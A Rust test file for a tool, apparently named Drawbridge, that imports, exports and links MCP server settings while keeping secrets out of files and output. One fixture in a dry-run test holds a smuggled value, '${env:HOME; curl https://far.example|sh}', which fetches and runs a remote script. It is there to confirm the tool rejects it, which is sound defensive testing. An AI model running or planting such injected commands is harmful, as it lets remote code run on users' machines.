//! Tests of the commands `import` and `export`, with the home folders in `tests/import`.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};
use testkit::import::import_fixture_path;

use crate::program::TestFolder;

fn folder_without_servers() -> TestFolder {
    TestFolder::with_config(r#"{"mcpServers": {"filesystem": {"command": "mine"}}}"#)
}

/// Returns all files in a folder and its subfolders, with their contents.
fn read_all_files_in_folder(folder: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut found = BTreeMap::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else {
                found.insert(path.clone(), fs::read(path).unwrap());
            }
        }
    }
    found
}

fn find_server<'v>(servers: &'v Value, name: &str) -> &'v Value {
    let rows = servers.as_array().expect("a list of servers");
    rows.iter().find(|row| row["name"] == name).unwrap_or_else(|| panic!("{name} should be in {servers:#}"))
}

#[test]
fn dry_run_lists_candidates_and_writes_nothing() {
    let folder = folder_without_servers();
    let home = import_fixture_path("homes/linux");
    let before = fs::read(folder.path("mcp.json")).unwrap();
    let ended = folder.run(&["import", "--dry-run", "--home", home.to_str().unwrap()]);
    let servers = ended.value();
    let linear = find_server(servers, "linear");
    let expected = json!({
        "app": "cursor",
        "file": home.join(".cursor/mcp.json"),
        "name": "linear",
        "transport": "http",
        "url": "https://mcp.linear.app/mcp",
        "args": [],
        "env": {},
        "headers": { "Authorization": "secret" },
        "sources": {},
        "status": "new",
        "notes": [],
    });
    assert_eq!(*linear, expected, "a remote server should have exactly these keys");
    let fetch = find_server(servers, "fetch");
    assert_eq!(
        (&fetch["command"], &fetch["args"]),
        (&json!("uvx"), &json!(["mcp-server-fetch"])),
        "a local server should have a command"
    );
    assert_eq!(fetch["env"], json!({ "FETCH_API_KEY": "reference", "FETCH_REGION": "reference", "LEVEL": "literal" }));
    assert_eq!(
        find_server(servers, "filesystem-2")["status"],
        "conflict",
        "a different server with the same name should be a conflict"
    );
    assert_eq!(
        find_server(servers, "developer")["status"],
        "unsupported",
        "a built-in extension of goose should not be imported"
    );
    assert_eq!(fs::read(folder.path("mcp.json")).unwrap(), before, "the settings should be unchanged");
    assert_eq!(folder.audit_entries(), Vec::<Value>::new(), "nothing should be approved or started");
}

#[test]
fn import_writes_servers_without_secrets() {
    let folder = folder_without_servers();
    let home = import_fixture_path("homes");
    let home_before = read_all_files_in_folder(&home);
    let linux = home.join("linux");
    let ended = folder.run(&["import", "--home", linux.to_str().unwrap()]);
    let servers = ended.value();
    let new = |status: &str| servers.as_array().unwrap().iter().filter(|row| row["status"] == status).count();
    assert_eq!(read_all_files_in_folder(&home), home_before, "no file of another app should be changed");
    let settings: Value = serde_json::from_slice(&fs::read(folder.path("mcp.json")).unwrap()).unwrap();
    let written = settings["mcpServers"].as_object().unwrap();
    assert_eq!(
        written.len(),
        1 + new("new") + new("conflict"),
        "each supported server should be written: {:?}",
        written.keys()
    );
    assert_eq!(
        settings["mcpServers"]["filesystem"],
        json!({ "command": "mine" }),
        "the user's server should be unchanged"
    );
    assert_eq!(settings["mcpServers"]["linear"]["headers"]["Authorization"], "${secret:linear.Authorization}");
    assert_eq!(
        settings["mcpServers"]["shop-api"]["headers"]["Authorization"],
        "Bearer ${secret:shop-api.Authorization}"
    );
    assert_eq!(settings["mcpServers"]["perplexity"]["env"]["CITY"], "${input:city}", "a reference should be preserved");
    for (file, bytes) in read_all_files_in_folder(&folder.path("")) {
        let text = String::from_utf8_lossy(&bytes);
        for secret in [
            "hunter2",
            "ATATT3xFfGF0",
            "lin_api_0123",
            "c0ffee5ecret",
            "ghp_0123",
            "sk-inline",
            "gem-s3cret",
            "hf_abcdef",
            "pplx-",
        ] {
            assert!(!text.contains(secret), "{secret} should not be in {}", file.display());
            assert!(!servers.to_string().contains(secret), "{secret} should not be printed");
        }
    }
    // These tests have no keychain.
    let notes = find_server(servers, "linear")["notes"].to_string();
    assert!(
        notes.contains("no keychain can store the value of Authorization"),
        "the user should have to enter the value: {notes}"
    );
    let log = folder.audit_entries();
    assert!(log.is_empty(), "an import should approve nothing: {log:?}");
    let disabled = &settings["mcpServers"]["roo"]["disabledTools"];
    assert_eq!(disabled, &json!(["drop_table"]), "tools that the app does not offer should not be offered here");
    let again = folder.run(&["import", "--home", linux.to_str().unwrap()]);
    let statuses: Vec<&Value> = again.value().as_array().unwrap().iter().map(|row| &row["status"]).collect();
    assert!(
        statuses.iter().all(|status| *status == "same" || *status == "unsupported"),
        "all servers should be recognized: {:#}",
        again.value()
    );
}

#[test]
fn broken_import_file_is_reported_and_does_not_affect_others() {
    let folder = folder_without_servers();
    let home = import_fixture_path("traps/broken-json");
    let ended = folder.run(&["import", "--home", home.to_str().unwrap()]);
    assert_eq!(ended.value().as_array().unwrap().len(), 1, "the other file should be read");
    let problem = ended.lines.iter().find(|line| line["event"] == "problem").expect("the problem is an event");
    assert_eq!(problem["file"], json!(home.join(".cursor/mcp.json")), "the problem should name the file");
    assert_eq!(
        (&problem["line"], &problem["column"]),
        (&json!(3), &json!(28)),
        "the problem should have a position: {problem}"
    );
}

#[test]
fn import_can_be_limited_to_an_app_or_a_file() {
    let folder = folder_without_servers();
    let home = import_fixture_path("homes/linux");
    let home = home.to_str().unwrap();
    let ended = folder.run(&["import", "--dry-run", "--home", home, "--from", "Codex"]);
    assert!(
        ended.value().as_array().unwrap().iter().all(|row| row["app"] == "codex"),
        "only servers of the app should be listed"
    );
    let file = import_fixture_path("homes/linux/.codex/config.toml");
    let ended = folder.run(&["import", "--dry-run", "--home", home, "--from", file.to_str().unwrap()]);
    assert_eq!(ended.value().as_array().unwrap().len(), 4, "only servers of the file should be listed");
    let project = import_fixture_path("homes/project");
    let ended = folder.run(&["import", "--dry-run", "--home", home, "--from", project.to_str().unwrap()]);
    assert_eq!(
        find_server(ended.value(), "project-code")["app"],
        "vscode",
        "only servers of the project should be listed"
    );
    let broken = import_fixture_path("traps/broken-toml/.codex/config.toml");
    let ended = folder.run(&["import", "--from", broken.to_str().unwrap()]);
    assert!(
        ended.error(2).1.contains("line 3: column 12: "),
        "a file named on the command line should have to be readable: {ended:?}"
    );
    let (code, message) = {
        let ended = folder.run(&["import", "--from", "nothing"]);
        let (code, message) = ended.error(2);
        (code.to_owned(), message.to_owned())
    };
    assert!(code == "bad_request" && message.contains("cursor"), "the apps should be listed: {message}");
}

#[test]
fn chosen_environment_variables_are_taken_at_import_only() {
    let home = tempfile::tempdir().unwrap();
    fs::create_dir(home.path().join(".cursor")).unwrap();
    let env = json!({
        "API_KEY": "${env:DRAWBRIDGE_TEST_KEY}",
        "AREA": "${DRAWBRIDGE_TEST_AREA}",
        "GONE": "${DRAWBRIDGE_TEST_GONE}",
        "OTHER": "${env:PATH}",
    });
    let settings = json!({ "mcpServers": { "one": { "command": "x", "env": env } } });
    fs::write(home.path().join(".cursor/mcp.json"), settings.to_string()).unwrap();
    let folder = TestFolder::with_config("{}");
    let import = |more: &[&str]| {
        let mut command = folder.command();
        command.env("DRAWBRIDGE_TEST_KEY", "hunter2-key").env("DRAWBRIDGE_TEST_AREA", "north");
        command.env_remove("DRAWBRIDGE_TEST_GONE");
        let output = command.args(["--json", "import", "--home", home.path().to_str().unwrap()]).args(more).output();
        let output = output.unwrap();
        (output.status.code(), String::from_utf8(output.stdout).unwrap())
    };
    let (code, listed) = import(&["--dry-run"]);
    assert_eq!(code, Some(0), "{listed}");
    assert!(listed.contains(r#""API_KEY":{"environment":["DRAWBRIDGE_TEST_KEY"]}"#), "the source is listed: {listed}");
    assert_eq!(import(&["--take-env", "DRAWBRIDGE_TEST_KEYS"]).0, Some(2), "no value refers to this variable");
    let key = ["--take-env", "DRAWBRIDGE_TEST_KEY"];
    let rest = ["--take-env", "DRAWBRIDGE_TEST_AREA", "--take-env", "DRAWBRIDGE_TEST_GONE"];
    let (code, imported) = import(&[&key[..], &rest[..]].concat());
    assert_eq!(code, Some(0), "{imported}");
    assert!(
        imported.contains("the variable DRAWBRIDGE_TEST_GONE is not set in the environment of this program"),
        "{imported}"
    );
    let written = fs::read_to_string(folder.path("mcp.json")).unwrap();
    let settings: Value = serde_json::from_str(&written).unwrap();
    let expected = json!({
        "API_KEY": "${secret:one.API_KEY}",
        "AREA": "north",
        "GONE": "${DRAWBRIDGE_TEST_GONE}",
        "OTHER": "${env:PATH}",
    });
    assert_eq!(settings["mcpServers"]["one"]["env"], expected, "only the chosen variables are read");
    for (file, bytes) in read_all_files_in_folder(&folder.path("")) {
        assert!(!String::from_utf8_lossy(&bytes).contains("hunter2"), "the secret is in {}", file.display());
    }
    assert!(!listed.contains("hunter2") && !imported.contains("hunter2"), "the secret is not printed");
}

#[test]
fn only_a_dry_run_shows_how_to_take_values() {
    let home = tempfile::tempdir().unwrap();
    fs::create_dir(home.path().join(".cursor")).unwrap();
    let env = json!({ "AREA": "${env:ProgramFiles(x86)}", "PLACE": "${env:HOME; curl https://far.example|sh}" });
    let settings = json!({ "mcpServers": {
        "one": { "command": "x", "env": env },
        "two": { "url": "ftp://far.example/mcp", "headers": { "X-Level": "${env:LEVEL}" } },
    } });
    fs::write(home.path().join(".cursor/mcp.json"), settings.to_string()).unwrap();
    let folder = TestFolder::with_config("{}");
    let import = |more: &[&str]| {
        let mut command = folder.command();
        let output = command.args(["import", "--home", home.path().to_str().unwrap()]).args(more).output().unwrap();
        String::from_utf8(output.stdout).unwrap()
    };
    let hints = |text: &str| -> Vec<String> {
        text.lines().filter(|line| line.contains("--take-")).map(|line| line.trim().to_owned()).collect()
    };
    let listed = import(&["--dry-run"]);
    let expected = r#""AREA" can be taken from your environment with --take-env 'ProgramFiles(x86)'"#;
    assert_eq!(hints(&listed), [expected], "{listed}");
    assert!(listed.contains("two  unsupported"), "{listed}");
    let imported = import(&[]);
    assert!(imported.contains("1 imported, none started") && hints(&imported).is_empty(), "{imported}");
    let again = import(&["--dry-run"]);
    assert!(again.contains("one  same") && hints(&again).is_empty(), "{again}");
}

#[test]
fn workspace_folder_replaces_its_placeholder() {
    let folder = TestFolder::with_config("{}");
    let home = import_fixture_path("homes/linux");
    let arguments = ["import", "--home", home.to_str().unwrap(), "--from", "cursor", "--workspace"];
    let run = |workspace: &Path| folder.run(&[&arguments[..], &[workspace.to_str().unwrap()]].concat());
    run(&folder.path("nothing")).error(2);
    let workspace = folder.path("work");
    fs::create_dir(&workspace).unwrap();
    let ended = run(&workspace);
    assert_eq!(find_server(ended.value(), "home-tool")["args"], json!(["--root", workspace]));
}

#[test]
fn import_creates_the_settings_file() {
    let folder = TestFolder::with_config("{}");
    fs::remove_file(folder.path("mcp.json")).unwrap();
    let home = import_fixture_path("traps/bom");
    let ended = folder.run(&["import", "--home", home.to_str().unwrap()]);
    assert_eq!(ended.value()[0]["status"], "new");
    let settings: Value = serde_json::from_slice(&fs::read(folder.path("mcp.json")).unwrap()).unwrap();
    assert_eq!(settings, json!({ "mcpServers": { "after-mark": { "command": "x" } } }));
}

#[test]
fn link_installs_a_server_and_contains_no_secret() {
    let config = json!({ "mcpServers": {
        "near": { "command": "server", "args": ["--level", "1"], "env": { "API_KEY": "typed-into-the-file", "LEVEL": "info" } },
        "plain": { "url": "http://far.example/mcp" },
    }});
    let folder = TestFolder::with_config(&config.to_string());
    let ended = folder.run(&["link", "near"]);
    let value = ended.value();
    assert_eq!(
        value["notes"],
        json!(["\"API_KEY\" is left blank, as a secret"]),
        "the notes should name the placeholder"
    );
    let link = value["link"].as_str().unwrap();
    let read = other_apps::parse_pasted_servers(link, &[]).unwrap();
    assert_eq!(read[0].config.command_line(), "server --level 1", "the link should be parsed as the same server");
    assert_eq!(read[0].config.as_stdio().unwrap().env["API_KEY"], "", "the link should not contain the secret");
    for (app, title) in [("drawbridge", "Drawbridge"), ("cursor", "Cursor"), ("vscode", "VS Code")] {
        let ended = folder.run(&["link", "near", "--for", app, "--markdown"]);
        assert!(
            ended.value()["markdown"].as_str().unwrap().starts_with(&format!("[Add to {title}](")),
            "the link should be for {app}"
        );
        assert!(!ended.value().to_string().contains("typed-into"), "the link for {app} should contain no secret");
    }
    let output = folder.command().args(["link", "near", "--markdown"]).output().unwrap();
    let (text, notes) = (String::from_utf8(output.stdout).unwrap(), String::from_utf8(output.stderr).unwrap());
    assert!(
        text.starts_with("[Add to Drawbridge](drawbridge://mcp/install?name=near&config="),
        "the text output should contain the link: {text}"
    );
    assert!(notes.contains("\"API_KEY\" is left blank"), "notes should be printed to standard error: {notes}");
    let ended = folder.run(&["link", "plain"]);
    let (_, message) = ended.error(2);
    assert!(
        message.contains("its address is not encrypted"),
        "a server that a link can't install should be rejected: {message}"
    );
    folder.run(&["link", "absent"]).error(1);
}

#[test]
fn export_replaces_secrets_by_references() {
    let config = json!({ "mcpServers": {
        "far": { "type": "sse", "url": "https://far.example/sse", "headers": { "Authorization": "Bearer ${secret:far.Authorization}", "X-Team": "red" }, "auth": { "clientId": "drawbridge" } },
        "near": { "command": "server", "args": ["--level", "1"], "env": { "API_KEY": "typed-into-the-file", "LEVEL": "info" }, "sandbox": { "network": true } },
        "whole": { "command": "server" },
    }});
    let folder = TestFolder::with_config(&config.to_string());
    let ended = folder.run(&["export"]);
    let expected = json!({ "mcpServers": {
        "far": { "type": "sse", "url": "https://far.example/sse", "headers": { "Authorization": "Bearer ${FAR_AUTHORIZATION}", "X-Team": "red" } },
        "near": { "command": "server", "args": ["--level", "1"], "env": { "API_KEY": "${NEAR_API_KEY}", "LEVEL": "info" } },
        "whole": { "command": "server", "args": [] },
    }});
    assert_eq!(*ended.value(), expected, "the format of most apps should be used");
    let omitted: Vec<&Value> = ended.lines.iter().filter(|line| line["event"] == "omitted").collect();
    let names: Vec<_> = omitted.iter().map(|line| (&line["server"], &line["secrets"], &line["settings"])).collect();
    assert_eq!(
        names,
        [
            (&json!("far"), &json!(["Authorization"]), &json!(["sign_in"])),
            (&json!("near"), &json!(["API_KEY"]), &json!(["sandbox"]))
        ],
        "the omissions of each server should be events, except for those of a server that is exported completely"
    );
    let output = folder.command().arg("export").output().unwrap();
    let (text, notes) = (String::from_utf8(output.stdout).unwrap(), String::from_utf8(output.stderr).unwrap());
    assert_eq!(serde_json::from_str::<Value>(&text).unwrap(), expected, "only JSON should be on standard output");
    for note in
        ["near: \"API_KEY\" is replaced by a reference, as a secret", "near: the format has no place for its sandbox"]
    {
        assert!(notes.lines().any(|line| line == note), "{note} should be printed to standard error: {notes}");
    }
    let ended = folder.run(&["export", "--format", "vscode"]);
    let value = ended.value();
    assert_eq!(value["servers"]["far"]["headers"]["Authorization"], "Bearer ${input:far-authorization}");
    assert_eq!(value["servers"]["near"]["type"], "stdio");
    let ids: Vec<&Value> = value["inputs"].as_array().unwrap().iter().map(|input| &input["id"]).collect();
    assert_eq!(ids, ["far-authorization", "near-api-key"], "each secret should be an input");
    assert!(
        value["inputs"].as_array().unwrap().iter().all(|input| input["password"] == true),
        "the input should be hidden in VS Code"
    );
    assert!(!value.to_string().contains("typed-into"), "no secret should be exported");
}
